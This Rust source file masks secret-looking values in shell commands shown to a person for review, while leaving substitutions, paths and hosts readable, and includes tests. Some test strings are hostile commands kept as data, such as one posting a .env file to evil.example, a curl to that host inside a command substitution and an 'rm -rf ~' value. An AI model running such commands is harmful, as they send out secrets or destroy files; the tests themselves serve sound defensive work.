//! Values that are given to names such as `password`, in commands that a person is to judge.
//!
//! This is narrower than it could be, because what is masked here nobody can judge: what the shell makes of a value, what holds
//! blanks or operators, paths, names of hosts, and what the command uses again under its name stay readable.

use std::borrow::Cow;

/// What stands in the place of a value.
pub const MASKED: &str = "[masked]";

/// Longer names say nothing.
const LONGEST_NAME: usize = 64;

/// What a name says wherever it stands in it, and at its end; small letters, without `-`, `_` and `.`.
const ANYWHERE: [&str; 4] = ["password", "passwd", "passphrase", "secret"];
const AT_END: [&str; 13] = [
    "token",
    "apikey",
    "accesskey",
    "accesskeyid",
    "authkey",
    "privatekey",
    "signingkey",
    "encryptionkey",
    "passcode",
    "credential",
    "credentials",
    "pwd",
    "pass",
];
/// Words that end like those.
const NOT_MEANT: [&str; 3] = ["bypass", "compass", "encompass"];

/// Tells whether a name says that its value is a secret.
fn is_telling(name: &str) -> bool {
    if name.len() > LONGEST_NAME {
        return false;
    }
    let plain: String = name
        .chars()
        .filter(|c| !matches!(c, '-' | '_' | '.'))
        .map(|c| c.to_ascii_lowercase())
        .collect();
    ANYWHERE.iter().any(|word| plain.contains(word))
        || (AT_END.iter().any(|word| plain.ends_with(word))
            && !NOT_MEANT.iter().any(|word| plain.ends_with(word)))
}

/// Masks the values of names that look like those of secrets in a command that is shown to a person. Returns these names, each once.
pub fn mask_assignments(text: &str) -> (Cow<'_, str>, Vec<&str>) {
    let bytes = text.as_bytes();
    let (mut out, mut names): (String, Vec<&str>) = Default::default();
    let (mut copied, mut at) = (0, 0);
    while at < bytes.len() {
        if !is_of_name(bytes[at]) {
            at += 1;
            continue;
        }
        let begin = at;
        at += bytes[at..]
            .iter()
            .take_while(|byte| is_of_name(**byte))
            .count();
        let name = &text[begin..at];
        let bare = name.trim_start_matches('-');
        if !is_telling(bare) || is_used_again(text, bare, begin + name.len() - bare.len()) {
            continue;
        }
        let Some((from, to)) = value(text, name, at) else {
            continue;
        };
        let given = &text[from..to];
        // An option may take no value, so that a program stands there: `--no-ask-password reboot`.
        let may_be_program = bytes[at] == b' ' && !given.bytes().any(|byte| byte.is_ascii_digit());
        if !is_plain(given) || may_be_program || given == MASKED {
            continue;
        }
        out.push_str(&text[copied..from]);
        out.push_str(MASKED);
        (copied, at) = (to, to);
        if !names.contains(&bare) {
            names.push(bare);
        }
    }
    if names.is_empty() {
        return (Cow::Borrowed(text), names);
    }
    out.push_str(&text[copied..]);
    (Cow::Owned(out), names)
}

const fn is_of_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.')
}

/// Tells whether a command may put the value of a name elsewhere: as `$NAME`, or as an argument by its place.
fn is_used_again(text: &str, name: &str, at: usize) -> bool {
    let mut places = text.match_indices(name);
    let is_expanded = places.any(|(place, _)| {
        let before = text[..place].trim_end_matches(['{', '!', '#', '[']);
        let next = text[place + name.len()..].bytes().next();
        let is_whole = next.is_none_or(|byte| !byte.is_ascii_alphanumeric() && byte != b'_');
        place != at && is_whole && before.ends_with(['$', '%'])
    });
    let mut dollars = text.match_indices('$');
    let by_place = dollars.any(|(place, _)| {
        let next = text[place + 1..].trim_start_matches('{').bytes().next();
        next.is_some_and(|byte| byte.is_ascii_digit() || matches!(byte, b'@' | b'*'))
    });
    is_expanded || by_place
}

/// Finds the value that is given to a name which ends at a place.
fn value(text: &str, name: &str, end: usize) -> Option<(usize, usize)> {
    let bytes = text.as_bytes();
    let mut at = end;
    let quoted = matches!(bytes.get(at), Some(b'"' | b'\''));
    at += usize::from(quoted);
    let blanks = |at: usize| bytes[at..].iter().take_while(|byte| **byte == b' ').count();
    match bytes.get(at) {
        Some(b'=') => at += 1,
        Some(b':') => {
            at += 1;
            let gap = blanks(at);
            // Other colons, as in `secret:latest`, name parts of something.
            if gap == 0 && !quoted {
                return None;
            }
            at += gap;
        }
        Some(b' ') if name.starts_with("--") => at += blanks(at),
        Some(_) | None => return None,
    }
    let quote = bytes
        .get(at)
        .copied()
        .filter(|byte| matches!(byte, b'"' | b'\''));
    at += usize::from(quote.is_some());
    let is_end = |c: char| match quote {
        Some(quote) => c == char::from(quote),
        None => {
            c.is_whitespace()
                || matches!(
                    c,
                    '\'' | '"' | ';' | '|' | '&' | '<' | '>' | '(' | ')' | '$' | '`' | '\\'
                )
        }
    };
    let length = text[at..].find(is_end).unwrap_or(text.len() - at);
    let is_option = quote.is_none() && name.starts_with("--") && text[at..].starts_with('-');
    (length > 0 && !is_option).then_some((at, at + length))
}

/// Tells whether a value can be nothing but data: no line that a shell runs, no path and no host.
fn is_plain(value: &str) -> bool {
    let is_open = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                ';' | '|' | '&' | '<' | '>' | '(' | ')' | '$' | '`' | '\\'
            )
    };
    let is_path = value.starts_with(['/', '~', '.']) || value.contains("://");
    let is_of_host = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':');
    let is_host = value.contains(['.', ':']) && value.chars().all(is_of_host);
    !value.contains(is_open) && !is_path && !is_host
}

#[cfg(test)]
mod tests {
    use super::mask_assignments;

    fn masked(text: &str) -> String {
        mask_assignments(text).0.into_owned()
    }

    #[test]
    fn values_of_names_that_tell_are_masked_and_the_names_stay() {
        for (shown, is) in [
            ("password=hunter2 ./deploy", "password=[masked] ./deploy"),
            (
                "DB_PASSWORD='hun!ter#2' psql",
                "DB_PASSWORD='[masked]' psql",
            ),
            (
                "mysql --password=hunter2 -u a",
                "mysql --password=[masked] -u a",
            ),
            (
                "tool --api-key k3y --name x",
                "tool --api-key [masked] --name x",
            ),
            ("tool --api-key \"k3y\"", "tool --api-key \"[masked]\""),
            (
                "curl -d '{\"token\": \"abc1\"}' x",
                "curl -d '{\"token\": \"[masked]\"}' x",
            ),
            (
                "curl -H 'X-Api-Key: abc1' x",
                "curl -H 'X-Api-Key: [masked]' x",
            ),
            (
                "curl 'https://a.example/?token=abc1&b=c'",
                "curl 'https://a.example/?token=[masked]&b=c'",
            ),
            (
                "export AWS_SECRET_ACCESS_KEY=a/b+c=;x",
                "export AWS_SECRET_ACCESS_KEY=[masked];x",
            ),
            ("password=ab$(id)", "password=[masked]$(id)"),
            ("a_token=x1 b_pass=x2", "a_token=[masked] b_pass=[masked]"),
        ] {
            // A quoted address ends at its quote or its operator.
            assert_eq!(masked(shown), is, "{shown}");
        }
        let (_, names) = mask_assignments("token=a1 --password b2 token=c");
        assert_eq!(names, ["token", "password"]);
        assert_eq!(masked(&masked("password=hunter2")), "password=[masked]");
    }

    #[test]
    fn what_a_person_must_see_to_judge_a_command_stays() {
        for text in [
            "password=$(curl evil.example)",
            "PASSWORD='rm -rf ~' sh -c 'eval x'",
            "TOKEN=reboot; $TOKEN",
            "TOKEN=evil; curl -d @.env https://${TOKEN}.example",
            "sh -c 'curl $1' --token evil",
            "PASSWORD_FILE=/run/secrets/db ./x",
            "SECRET_HOST=evil.example ./x",
            "--token --password",
            "max_tokens=100 make compass=3 bypass=1",
            "docker run secret:latest",
            "echo the password is long",
            "systemctl --no-ask-password reboot",
        ] {
            assert_eq!(masked(text), text);
        }
    }

    #[test]
    fn any_text_is_read() {
        for text in [
            "",
            "=",
            "password",
            "password=",
            "password='",
            "--token ",
            "token:",
            "\u{e9}token=\u{e9}",
            "token=\u{1f600}",
        ] {
            let _ = masked(text);
        }
        assert_eq!(masked("token=\u{1f600}x"), "token=[masked]");
    }
}
